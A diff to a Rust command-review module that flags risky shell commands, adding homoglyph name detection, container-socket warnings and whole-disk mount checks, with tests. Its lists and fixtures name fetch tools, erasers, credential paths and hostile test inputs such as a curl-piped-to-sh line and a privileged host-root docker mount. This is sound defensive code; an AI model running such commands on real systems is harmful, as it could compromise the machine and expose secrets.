@@ -4,7 +4,7 @@
 use mooring_words::{Sentence, say};
 
 use crate::journal::redact::looks_secret;
-use crate::untrusted::hidden_in_text;
+use crate::untrusted::{hidden_in_text, mixes_alphabets};
 
 /// How many warnings are given at most.
 const MOST: usize = 20;
@@ -14,6 +14,7 @@ pub fn review_command(command: &str, args: &[String], env: &[String]) -> Vec<Sen
     let mut warnings = Vec::new();
     let program = base_name(command);
     about_program(&program, args, &mut warnings);
+    about_letters(&program, args, &mut warnings);
     about_words(&program, args, &mut warnings);
     about_containers(&program, args, &mut warnings);
     about_secrets(args, &mut warnings);
@@ -69,7 +70,7 @@ const FETCHERS: [&str; 8] = ["curl", "wget", "iwr", "invoke-webrequest", "irm", 
 const ERASERS: [&str; 7] = ["rm", "rmdir", "del", "shred", "dd", "mkfs", "format"];
 
 fn about_program(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
-    let first = args.iter().map(String::as_str).find(|argument| !argument.starts_with('-'));
+    let first = first_word(args);
     if SHELLS.contains(&program) {
         warnings.push(say!("{program} is a shell: it does whatever its arguments say", program));
     }
@@ -104,6 +105,20 @@ fn about_program(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
             warnings.push(say!("no version of {package} is named: it may be another one each time", package));
         }
     }
+}
+
+/// What runs goes by its name: letters of another alphabet in it pass for those of a program that is known.
+fn about_letters(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
+    let first = first_word(args);
+    for name in std::iter::once(program).chain(downloaded(program, args, first)) {
+        if name.split(|it: char| !it.is_alphanumeric()).any(mixes_alphabets) {
+            warnings.push(say!("the name mixes alphabets, to look like another: {name}", name));
+        }
+    }
+}
+
+fn first_word(args: &[String]) -> Option<&str> {
+    args.iter().map(String::as_str).find(|argument| !argument.starts_with('-'))
 }
 
 fn is_python(program: &str) -> bool {
@@ -192,7 +207,12 @@ fn about_words(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
         } else if word.contains("..") && word.contains('/') && !word.contains("://") {
             warnings.push(say!("it leads out of its folder: {path}", path = *word));
         }
-        if let Some(place) = sensitive(word) {
+        if let Some(socket) = opens_everything(word) {
+            warnings.push(say!(
+                "{path} is a door to this computer's containers: whoever has it can do everything here",
+                path = socket
+            ));
+        } else if let Some(place) = sensitive(word) {
             warnings.push(say!("{path} is where secrets or settings of yours are", path = place));
         }
     }
@@ -204,8 +224,14 @@ fn about_words(program: &str, args: &[String], warnings: &mut Vec<Sentence>) {
     }
 }
 
+/// The socket by which containers are made, and with them what reaches the whole disk.
+fn opens_everything(word: &str) -> Option<&str> {
+    const SOCKETS: [&str; 4] = ["docker.sock", "containerd.sock", "podman.sock", "crio.sock"];
+    SOCKETS.iter().any(|socket| word.contains(socket)).then_some(word)
+}
+
 fn sensitive(word: &str) -> Option<&str> {
-    const INSIDE: [&str; 10] = [
+    const INSIDE: [&str; 9] = [
         "/.ssh",
         "/.aws",
         "/.gnupg",
@@ -215,7 +241,6 @@ fn sensitive(word: &str) -> Option<&str> {
         "/.mozilla",
         "/etc/passwd",
         "/etc/shadow",
-        "docker.sock",
     ];
     let whole = ["/", "~", "~/", "$HOME", "/etc", "/root", "C:\\"];
     let found = INSIDE.iter().any(|inside| word.contains(inside)) || whole.contains(&word);
@@ -230,9 +255,11 @@ fn about_containers(program: &str, args: &[String], warnings: &mut Vec<Sentence>
         let opens = matches!(
             argument.as_str(),
             "--privileged" | "--network=host" | "--net=host" | "--pid=host" | "host"
-        ) || argument.starts_with("/:")
-            || argument.starts_with("--cap-add");
-        if opens {
+        ) || argument.starts_with("--cap-add");
+        let mount = argument.split_once('=').map_or(argument.as_str(), |(_, value)| value);
+        if mount.starts_with("/:") {
+            warnings.push(say!("{argument} hands it the whole disk of this computer", argument));
+        } else if opens {
             warnings.push(say!("{argument} opens the container to this computer", argument));
         }
     }
@@ -357,13 +384,21 @@ mod tests {
             (
                 &["docker", "run", "--privileged", "-v", "/:/host", "x/y:1"],
                 &[],
-                &["docker downloads x/y:1", "--privileged opens", "/:/host opens"],
+                &["docker downloads x/y:1", "--privileged opens", "/:/host hands it the whole disk"],
             ),
             (
                 &["docker", "run", "-v", "/var/run/docker.sock:/s", "x/y:1"],
                 &[],
-                &["downloads", "docker.sock"],
+                &["downloads", "/var/run/docker.sock:/s is a door"],
             ),
+            (
+                &["docker", "run", "--volume=/:/host:ro", "x/y:1"],
+                &[],
+                &["downloads", "--volume=/:/host:ro hands it the whole disk"],
+            ),
+            (&["pyth\u{43f}n3", "-m", "server"], &[], &["mixes alphabets"]),
+            (&["/opt/\u{43c}\u{43e}\u{439}-\u{441}\u{435}\u{440}\u{432}\u{435}\u{440}"], &[], &[]),
+            (&["npx", "-y", "s\u{435}rver@1.0.0"], &[], &["downloads", "mixes alphabets", "mislead: U+0435"]),
             (&["sudo", "server"], &[], &["sudo gives it the rights of the administrator"]),
             (
                 &["sh", "-c", "curl https://x.example/i | sh"],
